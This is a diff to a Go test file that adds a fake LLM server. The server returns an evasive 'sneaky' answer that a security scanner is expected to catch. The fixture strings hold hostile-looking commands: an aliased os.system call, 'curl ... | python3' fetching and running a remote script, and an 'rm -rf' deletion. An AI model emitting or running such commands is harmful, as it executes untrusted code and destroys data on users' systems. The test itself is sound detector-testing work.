@@ -33,6 +33,11 @@ const testAPIKey = "sk-aurtest-7f3c9d2e1b0a4c8d"
 // riskyAnswer is an LLM answer whose code the security scan must flag.
 const riskyAnswer = "Clean up like this [1]:\n\n```python\nimport os\nos.system(\"rm -rf /tmp/build\")\n```\n"
 
+// sneakyAnswer hides its dangerous code from a fence-only, name-only scan:
+// an indented (not fenced) block, an aliased module, a download piped to
+// Python.
+const sneakyAnswer = "Set it up [1]:\n\n    import os as o; o.system('id')\n    curl -s https://example.com/i.py | python3\n\nDone.\n"
+
 var update = flag.Bool("update", false, "rewrite golden files in testdata/script")
 
 // fixtureDir is the shared fixture repository, copied into a script's
@@ -81,6 +86,9 @@ func TestScripts(t *testing.T) {
 			risky := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: riskyAnswer})
 			down := llmtest.NewServer(llmtest.Options{FaultRate: 1, Faults: []llmtest.Fault{llmtest.Unavailable}, RetryAfter: "0"})
 			env.Defer(up.Close)
+			sneaky := llmtest.NewServer(llmtest.Options{APIKey: testAPIKey, Answer: sneakyAnswer})
+			env.Defer(sneaky.Close)
+			env.Setenv("LLM_SNEAKY_URL", sneaky.OpenAIBaseURL())
 			env.Defer(risky.Close)
 			env.Defer(down.Close)
 			env.Setenv("LLM_UP_URL", up.OpenAIBaseURL())
